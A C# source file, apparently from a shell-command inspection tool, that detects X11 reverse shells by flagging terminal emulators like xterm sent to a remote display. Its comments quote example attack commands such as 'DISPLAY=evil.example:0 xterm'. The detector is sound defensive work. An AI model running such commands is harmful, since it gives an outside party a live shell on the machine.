using static McpVanguard.Inspection.Shell.ShellVocabulary;

namespace McpVanguard.Inspection.Shell;

/// <summary>X11 reverse shells: a terminal opened on someone else's display (<c>xterm -display 203.0.113.9:1</c>).</summary>
internal sealed partial class ShellAnalyzer
{
    /// <summary>Terminal emulators that open a window, with a shell in it, on the display they are given.</summary>
    private static readonly System.Collections.Frozen.FrozenSet<string> TerminalEmulators = System.Collections.Frozen.FrozenSet.Create(StringComparer.Ordinal,
        "xterm", "uxterm", "rxvt", "urxvt", "rxvt-unicode", "x-terminal-emulator", "aterm", "eterm", "st");

    /// <summary>
    /// A terminal emulator sent to a display on another machine (<c>xterm -display 203.0.113.9:1</c>, <c>DISPLAY=evil.example:0 xterm</c>): whoever
    /// owns that display types into a shell here, the X11 form of a reverse shell. A local display (<c>:0</c>, <c>localhost:10</c>) is not.
    /// </summary>
    private void CheckRemoteDisplay(List<string> words, int k, string name)
    {
        if (!TerminalEmulators.Contains(name))
        {
            return;
        }

        for (var i = 0; i < words.Count; i++)
        {
            var display = i < k && words[i].StartsWith("DISPLAY=", StringComparison.Ordinal) ? words[i]["DISPLAY=".Length..]
                : i > k && words[i] is "-display" or "-d" or "--display" && i + 1 < words.Count ? words[i + 1]
                : null;
            if (display is not null && IsRemoteDisplay(display))
            {
                Report(ShellFindings.ReverseShell);
                return;
            }
        }
    }

    private static bool IsRemoteDisplay(string display)
    {
        var colon = display.LastIndexOf(':');
        if (colon <= 0)
        {
            return false; // ":0", the local display
        }

        var host = display[..colon].Trim('[', ']');
        return host is not ("localhost" or "127.0.0.1" or "::1" or "unix") && !host.StartsWith("/", StringComparison.Ordinal);
    }
}
